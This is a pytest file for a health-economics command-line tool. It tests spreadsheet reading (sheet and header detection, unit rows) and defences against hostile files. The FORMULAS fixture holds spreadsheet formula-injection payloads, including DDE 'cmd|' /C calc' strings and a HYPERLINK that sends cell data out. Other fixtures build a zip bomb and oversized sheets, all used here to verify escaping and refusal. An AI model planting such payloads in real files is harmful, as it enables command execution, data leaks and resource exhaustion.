"""Workbooks: which sheet is read and from which line on, cells far outside of the table, formulas, hostile files."""

import os
import shlex
import zipfile

import numpy as np
import pytest

pytest.importorskip("typer")
pytest.importorskip("openpyxl")

import openpyxl

from cbq.cli.cells import as_text, from_text
from cbq.cli.sheets import read_sheet
from cbq.cli.tables import write_table
from command_line import ok, process, refused, run

RNG = np.random.default_rng(0)
A, NOISE = RNG.normal(size=(2, 60))
TABLE = [["a", "nb1", "nb2"], *([a, 0.0, a + e] for a, e in zip(A.tolist(), NOISE.tolist(), strict=True))]
COVER = [["Model of drug X"], [], ["Version", "2.1"], ["Author", "N. N."]]
TITLES = [["Results of 60 draws"], [], *TABLE]


def workbook(path, **sheets):
    """Write a workbook with these rows in its sheets; a name that ends with _hidden is a hidden sheet."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name.removesuffix("_hidden"))
        sheet.sheet_state = "hidden" if name.endswith("_hidden") else "visible"
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


def estimate(text):
    return text.splitlines()[1].split()


@pytest.fixture(scope="module")
def expected(tmp_path_factory):
    return estimate(ok("evppi", workbook(tmp_path_factory.mktemp("plain") / "psa.xlsx", PSA=TABLE)))


# --- which sheet, and which line


def test_the_only_sheet_with_a_table_is_read_and_said(tmp_path, expected):
    text = ok("evppi", workbook(tmp_path / "m.xlsx", Cover=COVER, PSA=TABLE, Empty=[]))
    assert estimate(text) == expected
    assert "sheet 'PSA' was read, the only one with a table" in " ".join(text.split())


def test_a_sheet_below_titles_is_found_and_said(tmp_path, expected):
    path = workbook(tmp_path / "m.xlsx", Cover=COVER, PSA=TITLES)
    text = ok("evppi", path)
    assert estimate(text) == expected
    words = " ".join(text.split())
    assert "sheet 'PSA' was read, the only one with a table" in words
    assert f"sheet 'PSA' of {path}: the names of the columns were found in line 3." in words
    for sheet in ("PSA", "psa", "2"):
        assert estimate(ok("evppi", path, "--sheet", sheet, "--header-row", 3)) == expected


def test_a_wrong_line_of_names_is_refused_with_another(tmp_path):
    path = workbook(tmp_path / "m.xlsx", PSA=TITLES)
    says = refused("evppi", path, "--header-row", 1)
    assert "sheet 'PSA' of" in says
    assert "if line 3 names the columns, pass --header-row 3" in says


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_text_below_titles_is_found_by_its_line(tmp_path, expected, mark):
    path = tmp_path / "m.csv"
    path.write_text("\n".join(mark.join(map(str, row)) for row in TITLES))
    text = ok("evppi", path)
    assert estimate(text) == expected == estimate(ok("evppi", path, "--header-row", 3))
    assert f"{path}: the names of the columns were found in line 3." in " ".join(text.split())
    assert "pass --header-row 3" in refused("evppi", path, "--header-row", 1)


@pytest.mark.parametrize("units", [["", "GBP", "GBP"], ["%", "GBP", "GBP"], ["", "", "EUR"]])
def test_a_row_of_units_below_the_names_is_left_out_and_said(tmp_path, expected, units):
    rows = [["The model"], TABLE[0], units, *TABLE[1:]]
    named = [["id", *rows[1]], ["", *rows[2]], *([i, *row] for i, row in enumerate(rows[3:], start=1))]
    for table in (rows, named):
        text = ok("evppi", workbook(tmp_path / "m.xlsx", PSA=table))
        assert estimate(text) == expected
        line, words = (3 if table is rows else 2), ", ".join(dict.fromkeys(filter(None, units)))
        assert f"line {line} was taken for units ({words}) and left out" in " ".join(text.split())


@pytest.mark.parametrize("row", [["failed", 1.0, 2.0], ["", "", ""], ["NA", "NA", "NA"]])
def test_a_row_with_a_number_or_without_a_word_is_not_one_of_units(tmp_path, row):
    sheet = read_sheet(workbook(tmp_path / "m.xlsx", PSA=[TABLE[0], row, *TABLE[1:]]))
    assert len(sheet.lines) == (60 if row == ["", "", ""] else 61)
    assert sheet.remarks == ()


def test_the_sheet_of_the_draws_is_found_among_small_tables(tmp_path, expected):
    small = [["Inputs of the model"], ["name", "mean"], ["a", 0.1], ["b", 0.2]]
    text = ok("evppi", workbook(tmp_path / "m.xlsx", Parameters=small, PSA=TITLES, Cover=COVER))
    assert estimate(text) == expected
    assert "sheet 'PSA' with 60 rows was read; 'Parameters' has 2" in " ".join(text.split())


def test_a_workbook_of_a_model_becomes_a_report_with_one_command(tmp_path):
    small = [["Inputs of the model"], [], ["name", "mean"], ["a", 0.1], ["b", 0.2]]
    units = ["", "GBP", "GBP"]
    path = workbook(
        tmp_path / "m.xlsx", Cover=COVER, Parameters=small, PSA=[["60 draws"], [], TABLE[0], units, *TABLE[1:]]
    )
    ok("psa", path, "--out", tmp_path / "appendix")
    assert "EVPPI" in (tmp_path / "appendix" / "report.html").read_text("utf-8")


def test_several_tables_and_none_are_refused_with_their_names(tmp_path):
    several = workbook(tmp_path / "m.xlsx", Cover=COVER, One=TABLE, Two=TABLE)
    assert "--sheet One or --sheet Two." in refused("evppi", several)
    assert "whose sheets are 'Cover', 'One', 'Two'" in refused("evppi", several, "--sheet", "Three")
    assert "the sheets are 'Cover', 'Notes'" in refused("evppi", workbook(tmp_path / "n.xlsx", Cover=COVER, Notes=[]))


OUTPUTS = [["Results"], [], ["draw", "nb1", "nb2"], ["", "GBP", "GBP"], *([i, *r[1:]] for i, r in enumerate(TABLE[1:]))]
INPUTS = [["Inputs"], ["draw", "a"], *([i, r[0]] for i, r in enumerate(TABLE[1:]))]


def test_outputs_and_inputs_of_the_same_draws_are_read_from_their_sheets(tmp_path, expected):
    path = workbook(tmp_path / "m.xlsx", Cover=COVER, Results=OUTPUTS, Draws=INPUTS)
    text = ok("evppi", path)
    assert estimate(text) == expected
    assert "the sheets 'Results', 'Draws' have 60 rows each, and were read side by side" in " ".join(text.split())
    damaged = [*INPUTS[:9], [7, "high"], *INPUTS[10:]]
    says = refused("evppi", workbook(tmp_path / "d.xlsx", Cover=COVER, Results=OUTPUTS, Draws=damaged), "--pars", "a")
    assert "sheet 'Draws' of" in says
    assert "line 10" in says
    assert estimate(ok("evppi", path, "--inputs-file", path, "--sheet", "Results", "--sheet", "Draws")) == expected


@pytest.mark.parametrize("change", ["other draws", "fewer rows", "no other column", "another value of nb1"])
def test_sheets_that_are_no_parts_of_a_table_are_not_joined(tmp_path, change):
    other = {
        "other draws": [INPUTS[1], *([i + 1, a] for i, a in INPUTS[2:])],
        "fewer rows": INPUTS[1:-5],
        "no other column": [["draw"], *([i] for i, _ in INPUTS[2:])],
        "another value of nb1": [["nb1", "a"], [0.5, INPUTS[2][1]], *([0.0, a] for _, a in INPUTS[3:])],
    }[change]
    says = refused("evppi", workbook(tmp_path / "m.xlsx", Cover=COVER, Results=OUTPUTS, Draws=other))
    assert "--sheet Results" in says


def test_names_with_quotes_are_shown_as_a_shell_takes_them(tmp_path, expected):
    path = workbook(tmp_path / "m.xlsx", Cover=COVER, **{'It\'s "PSA"': TITLES, "Other": TITLES})
    says = refused("evppi", path)
    words = shlex.split(says[says.index("--sheet") :].split(" or ")[0])
    assert estimate(ok("evppi", path, *words)) == expected


def test_line_breaks_in_names_are_spaces(tmp_path):
    path = workbook(tmp_path / "m.xlsx", PSA=[["risk\n of stroke", "b"], [1.0, 2.0]])
    assert list(read_sheet(path).columns) == ["risk of stroke", "b"]


def test_hidden_sheets_are_read_by_name_alone(tmp_path, expected):
    path = workbook(tmp_path / "m.xlsx", PSA=TABLE, Old_hidden=[["a", "b"], [1.0, 2.0]])
    assert estimate(ok("evppi", path)) == expected
    assert list(read_sheet(path, "Old").columns) == ["a", "b"]
    assert "(hidden: 'Old')" in refused("evppi", path, "--sheet", "None")


def test_files_may_have_sheets_of_their_own(tmp_path):
    pays = [["x", "y"], *([float(i % 7), float(i % 5)] for i in range(60))]
    path = workbook(tmp_path / "m.xlsx", E=TABLE, C=pays)
    files = ("--effects-file", path, "--costs-file", path, "--wtp", "2")
    text = ok("ceac", *files, "--effects", "nb1,nb2", "--sheet", "E", "--sheet", "C")
    assert "costs 'x', 'y'" in text
    assert "--sheet came 3 times for 2 files" in refused("ceac", *files, "--sheet", "1", "--sheet", "1", "--sheet", "1")


def test_options_for_workbooks_are_refused_elsewhere(tmp_path):
    write_table(tmp_path / "psa.csv", TABLE[0], TABLE[1:])
    assert "--sheet is for workbooks" in refused("evppi", tmp_path / "psa.csv", "--sheet", "1")
    pytest.importorskip("pyarrow")
    write_table(tmp_path / "psa.parquet", TABLE[0], TABLE[1:])
    assert "--header-row is for workbooks and text" in refused("evppi", tmp_path / "psa.parquet", "--header-row", "2")


def test_results_may_be_in_any_sheet(tmp_path):
    sheet = read_sheet(workbook(tmp_path / "r.xlsx", Cover=COVER, R=[["t"], ["id", "f"], [0, 1.5]]), "R", 2)
    assert sheet.columns == {"id": ["0"], "f": ["1.5"]}
    assert sheet.lines == [3]


# --- cells


def test_a_number_in_a_workbook_is_read_in_one_way(tmp_path):
    """A text such as 0,5 elsewhere in a sheet makes no thousands of its numbers."""
    path = workbook(tmp_path / "m.xlsx", PSA=[["a", "note"], [1.234, "0,5"], [2.345, "0,25"]])
    assert read_sheet(path).values("a") == [1.234, 2.345]


def test_formulas_without_values_are_refused(tmp_path):
    rows = [[*row[:2], f"=A{i}+1"] for i, row in enumerate(TABLE[1:], start=2)]
    path = workbook(tmp_path / "m.xlsx", PSA=[TABLE[0], *rows])
    assert "sheet 'PSA' of" in (says := refused("evppi", path))
    assert "has 60 formulas without a value, the first in cell C2" in says


@pytest.mark.parametrize("name", ["m.xlsx", "m.ods"])
def test_a_file_is_read_as_what_it_is(tmp_path, name):
    workbook(tmp_path / "m.xlsx", PSA=TABLE)
    (tmp_path / "m.xlsx").rename(tmp_path / name)
    assert list(read_sheet(tmp_path / name).columns) == TABLE[0]


def test_an_open_document_is_written_as_one(tmp_path):
    pytest.importorskip("odf")
    write_table(tmp_path / "m.ods", TABLE[0], TABLE[1:])
    assert "content.xml" in zipfile.ZipFile(tmp_path / "m.ods").namelist()
    assert read_sheet(tmp_path / "m.ods").values("a") == A.tolist()


def test_broken_workbooks_are_named(tmp_path):
    for name in ("m.xlsx", "m.ods"):
        (tmp_path / name).write_bytes(b"PK\x03\x04 no archive")
        assert f"{name} cannot be read as a spreadsheet" in refused("evppi", tmp_path / name)
        with zipfile.ZipFile(tmp_path / name, "w") as archive:
            archive.writestr("content.xml" if name == "m.ods" else "xl/workbook.xml", "<open")
        assert f"{name} cannot be read as a spreadsheet" in refused("evppi", tmp_path / name)


# --- cells far outside, and files that grow


def test_a_stray_cell_is_named(tmp_path):
    path = workbook(tmp_path / "m.xlsx", PSA=TABLE)
    book = openpyxl.load_workbook(path)
    book.active["XFD1048576"] = "x"
    book.save(path)
    assert "has 3 columns, but the value 'x' in cell XFD1048576" in refused("evppi", path)


SHEET = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def with_sheet(path, xml):
    """A workbook whose only sheet has this XML."""
    workbook(path, PSA=[])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, xml if name.endswith("sheet1.xml") else data)
    return path


@pytest.mark.parametrize(
    ("cells", "says"),
    [
        ((f'<row r="{i}"><c r="XFD{i}"><v>1</v></c></row>' for i in range(1, 1000)), "far outside of any table"),
        (('<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>',), "far outside of any table"),
    ],
)
def test_cells_that_would_take_the_memory_are_refused(tmp_path, cells, says):
    path = with_sheet(tmp_path / "m.xlsx", f"{SHEET}<sheetData>{''.join(cells)}</sheetData></worksheet>")
    assert says in refused("evppi", path)


def test_a_stated_size_of_a_sheet_is_not_believed(tmp_path):
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c><c r="B{i}"><v>{i}</v></c></row>' for i in range(2, 9))
    names = '<row r="1"><c r="A1" t="str"><v>a</v></c><c r="B1" t="str"><v>b</v></c></row>'
    xml = f'{SHEET}<dimension ref="A1:XFD1048576"/><sheetData>{names}{rows}</sheetData></worksheet>'
    assert len(read_sheet(with_sheet(tmp_path / "m.xlsx", xml)).values("a")) == 7


def test_an_archive_that_unpacks_to_more_than_a_table_is_refused(tmp_path):
    path = workbook(tmp_path / "m.xlsx", PSA=TABLE)
    assert len(read_sheet(path).values("a")) == 60
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/bomb.xml", bytes(2**10))
        archive.getinfo("xl/bomb.xml").file_size = 2**31 - 1  # as the list of its parts declares
    assert "GiB when unpacked" in refused("evppi", path)


CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="PSA">{}</table:table></office:spreadsheet></office:body></office:document-content>'
)
NUMBER = '<table:table-cell office:value-type="float" office:value="{}" table:number-columns-repeated="{}"/>'


def document(path, rows):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("content.xml", CONTENT.format(rows))
    return path


def test_repeated_cells_of_open_documents(tmp_path):
    words = "".join(f"<table:table-cell><text:p>{name}</text:p></table:table-cell>" for name in "abc")
    rows = f"<table:table-row>{words}</table:table-row>"
    rows += f'<table:table-row table:number-rows-repeated="3">{NUMBER.format(1.234, 2)}{NUMBER.format("7", 1)}'
    rows += '<table:table-cell table:number-columns-repeated="16381"/></table:table-row>'
    rows += '<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
    sheet = read_sheet(document(tmp_path / "m.ods", rows))
    assert {name: sheet.values(name) for name in "abc"} == {"a": [1.234] * 3, "b": [1.234] * 3, "c": [7.0] * 3}
    many = f'<table:table-row table:number-rows-repeated="1048576">{NUMBER.format(1, 16384)}</table:table-row>'
    assert "has more than 33554432 cells" in refused("evppi", document(tmp_path / "n.ods", rows + many))
    wide = f"<table:table-row>{NUMBER.format(1, 10**12)}</table:table-row>"
    assert "cells beyond column XFD in line" in refused("evppi", document(tmp_path / "o.ods", wide))


# --- text that would be a formula

FORMULAS = [
    '=HYPERLINK("http://example.org/?"&B2,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "'=1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("name", ["o.csv", "o.tsv", "o.txt", "o.xlsx", "o.ods", "o.parquet"])
def test_text_is_never_written_as_a_formula_and_read_as_it_was(tmp_path, name):
    pytest.importorskip("odf" if name == "o.ods" else "pyarrow" if name == "o.parquet" else "csv")
    header, path = [*FORMULAS, "-1.5", "plain"], tmp_path / name
    write_table(path, header, [[*FORMULAS, -1.5, "-"], [*FORMULAS, -2.5, "word"]])
    sheet = read_sheet(path)
    assert list(sheet.columns) == header
    assert [sheet.columns[each][0] for each in header] == [*FORMULAS, "-1.5", "-"]
    assert sheet.values("-1.5") == [-1.5, -2.5]
    if name == "o.xlsx":
        cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} == {"s", "n"}
        assert [cell.quotePrefix for cell in cells[:4]] == [True] * 4
    elif name.startswith("o.") and name[2:] in ("csv", "tsv", "txt"):
        mark = "\t" if name == "o.tsv" else ","
        assert not any(
            cell.strip('"')[:1] in ("=", "+", "@") for cell in path.read_text("utf-8").replace("\n", mark).split(mark)
        )


@pytest.mark.parametrize(
    "cell", [*FORMULAS, "''=x", "'", "'a", "-", "=", "", "a=b", "-5", "+1e3", "\t=1", "- a", "'-5"]
)
def test_marks_of_text_come_off_again(cell):
    assert from_text(as_text(cell)) == cell
    assert as_text(cell) == cell or as_text(cell).startswith("'")
    assert as_text(-1.5) == -1.5


def test_formulas_in_names_of_columns_reach_no_file(tmp_path):
    header = [*FORMULAS[:4], "nb1", "nb2"]
    write_table(tmp_path / "psa.csv", header, [[*RNG.normal(size=4).tolist(), *row[1:]] for row in TABLE[1:]])
    for out in ("o.xlsx", "o.csv"):
        ok("evppi", tmp_path / "psa.csv", "--out", tmp_path / out)
        assert set(FORMULAS[:4]) == set(read_sheet(tmp_path / out).columns["pars"])
    assert not [line for line in (tmp_path / "o.csv").read_text().splitlines() if line.lstrip('"')[:1] in "=+-@"]
    book = openpyxl.load_workbook(tmp_path / "o.xlsx")
    assert not [cell for row in book.active.iter_rows() for cell in row if cell.data_type == "f"]


# --- files that are no tables


def test_bytes_that_are_no_text_are_named_with_their_line(tmp_path):
    text = "\n".join(",".join(map(str, row)) for row in TABLE)
    for name, content, says in [
        ("nul.csv", f"{text[:30]}\0{text[30:]}".encode(), "nul.csv holds a NUL byte in line 2"),
        ("long.csv", f"{text}\n{'1' * 200000},0,1\n".encode(), "long.csv cannot be read as text from line 62 on"),
        ("odd.csv", text.encode("utf-16")[:-1], "odd.csv is not text in utf-16"),
    ]:
        (tmp_path / name).write_bytes(content)
        assert says in refused("evppi", tmp_path / name)


@pytest.mark.skipif(os.name == "nt", reason="names of files are Unicode there")
def test_names_of_files_may_be_any_bytes(tmp_path):
    name = os.fsdecode(b"ps\xff.csv")
    try:
        write_table(tmp_path / name, TABLE[0], TABLE[1:])
    except OSError:
        pytest.skip("this file system takes Unicode alone")
    result = process("evppi", name, "--out", "o.csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "ps\\udcff.csv" in (tmp_path / "o.html").read_text("utf-8")


def test_what_was_chosen_is_said_to_those_who_tell(tmp_path):
    path = workbook(tmp_path / "r.xlsx", Cover=COVER, R=[["id", "f"], [0, 1.5]])
    result = run("tell", tmp_path / "no.sqlite", path)
    assert "sheet 'R' was read, the only one with a table" in " ".join(result.stderr.split())
